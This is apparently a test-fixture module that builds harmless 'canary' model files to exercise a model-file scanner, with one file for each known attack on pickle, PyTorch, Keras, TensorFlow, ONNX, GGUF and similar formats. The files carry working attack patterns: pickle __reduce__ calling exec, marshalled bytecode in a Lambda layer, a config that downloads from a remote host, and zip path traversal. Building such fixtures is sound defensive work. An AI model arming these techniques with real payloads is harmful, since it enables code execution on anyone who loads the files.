"""One harmless file for each known way in which model files attack: executed, it would write a marker.

None of them is ever to be opened. The kinds are those of public advisories on Keras, TensorFlow, PyTorch, ONNX
and pickle files; the files are made without these libraries, as small as they can be.
"""

import base64
import io
import json
import marshal
import pickle
import zipfile
from pathlib import Path
from typing import Any

from tests.share_zoo import good


class _Writes:
    """Unpickled, it writes the marker."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (_code(self._marker),)


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _pickle(marker: Path, protocol: int = 4) -> bytes:
    return pickle.dumps(_Writes(marker), protocol)


def _zip(files: dict[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, inside in files.items():
            archive.writestr(name, inside)
    return content.getvalue()


def _keras(config: dict[str, Any], more: dict[str, bytes] | None = None) -> bytes:
    return _zip({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"} | (more or {}))


def _lambda(marker: Path) -> dict[str, Any]:
    """A layer that carries marshalled byte code (CVE-2024-3660, CVE-2025-9905)."""
    code = base64.b64encode(marshal.dumps(compile(_code(marker), "x", "exec"))).decode()
    return {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}},
    }


def _object(module: str, name: str, *arguments: object) -> dict[str, Any]:
    """A configuration that names any callable (CVE-2025-1550)."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
        "args": arguments,
    }


def _hdf5(text: str) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + bytes(88) + text.encode() + bytes(512)


def _npy(content: bytes) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + content


def _share_file(**card: Any) -> bytes:
    parts = good()
    parts.card |= card
    return parts.packed()


def _with_metadata(**more: Any) -> bytes:
    parts = good()
    parts.more |= more
    return parts.packed()


def write_canaries(folder: Path, marker: Path) -> list[Path]:
    """Writes them all and returns their paths."""
    folder.mkdir(parents=True)
    pickled, code = _pickle(marker), _code(marker)
    secret = folder / "secret.txt"
    secret.write_text("not to be read")
    contents = {
        "pickle.pkl": pickled,
        "old pickle.pickle": _pickle(marker, 2),
        "joblib.joblib": pickled,
        "dill.dill": pickled,
        "torch legacy.pth": pickled,
        "torch archive.pt": _zip({"archive/data.pkl": _pickle(marker, 2), "archive/version": b"3"}),
        "torch script.torchscript": _zip({"code/x.py": code.encode(), "data.pkl": pickled}),
        "lightning.ckpt": _zip({"archive/data.pkl": _pickle(marker, 2)}),
        "array of objects.npy": _npy(pickled),
        "archive of objects.npz": _zip({"x.npy": _npy(pickled)}),
        "lambda.keras": _keras(_lambda(marker)),
        "any callable.keras": _keras(_object("builtins", "exec", code)),
        "get_file.keras": _keras(_object("keras.utils", "get_file", "x", "http://192.0.2.1/x.tar", True)),
        "reads a file.keras": _keras(
            {"class_name": "StringLookup", "config": {"vocabulary": str(secret)}}, {"assets/x": b"x"}
        ),
        "weights elsewhere.keras": _keras({"class_name": "Dense"}, {"model.weights.h5": _hdf5(str(secret))}),
        "path that climbs.keras": _zip({"../../marker": b"x"}),
        "lambda.h5": _hdf5(json.dumps(_lambda(marker))),
        "external link.hdf5": _hdf5(f"EXTERNAL_LINK {secret}"),
        "writes files.pb": b"\n\x09WriteFile" + str(marker).encode(),
        "py_func.pbtxt": f'node {{ op: "PyFunc" attr {{ value: "{marker}" }} }}'.encode(),
        "external data.onnx": b"\x08\x07external_data" + str(secret).encode(),
        "custom operator.tflite": b"\x1c\0\0\0TFL3FlexReadFile" + str(secret).encode(),
        "template.gguf": b"GGUF\x03\0\0\0{{ ''.__class__.__mro__ }}",
        "code in metadata.safetensors": _with_metadata(code=code),
        "core ml.mlmodel": b"\x08\x05\x12customLayer",
        "a pickle in disguise.scenemodel": pickled,
        "an archive in disguise.scenemodel": _keras(_lambda(marker)),
        "HDF5 in disguise.scenemodel": _hdf5(json.dumps(_lambda(marker))),
        "another network.scenemodel": _share_file(network="builtins.exec"),
        "a layer as network.scenemodel": _share_file(network=_lambda(marker)),
        "code beside the card.scenemodel": _with_metadata(code=code),
        "a card that is a pickle.scenemodel": _with_metadata(card=base64.b64encode(pickled).decode()),
    }
    paths = [folder / name for name in contents]
    for path, content in zip(paths, contents.values(), strict=True):
        path.write_bytes(content)
    saved = folder / "saved model"
    saved.mkdir()
    (saved / "saved_model.pb").write_bytes(contents["writes files.pb"])
    return [*paths, saved]
